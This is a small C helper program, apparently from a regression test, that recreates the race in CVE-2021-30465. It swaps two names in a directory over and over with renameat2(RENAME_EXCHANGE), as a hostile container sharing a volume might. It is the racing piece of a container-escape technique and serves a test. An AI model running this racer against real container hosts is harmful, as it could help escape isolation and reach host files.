// The racer of CVE-2021-30465 (test_path_swap): swaps two names in a
// directory with renameat2(RENAME_EXCHANGE), as a container sharing a volume
// can, until SECONDS have passed or the file STOP exists.
//   swap_exchange DIR NAME1 NAME2 SECONDS STOP
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char** argv) {
    if (argc != 6) {
        fprintf(stderr, "usage: %s DIR NAME1 NAME2 SECONDS STOP\n", argv[0]);
        return 2;
    }
    int dir = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (dir < 0) {
        perror(argv[1]);
        return 1;
    }
    time_t end = time(NULL) + atoi(argv[4]);
    unsigned long swaps = 0;
    while (time(NULL) < end && access(argv[5], F_OK) != 0) {
        for (int i = 0; i < 1000; i++)
            if (renameat2(dir, argv[2], dir, argv[3], RENAME_EXCHANGE) == 0) swaps++;
    }
    printf("%lu swaps\n", swaps);
    return 0;
}
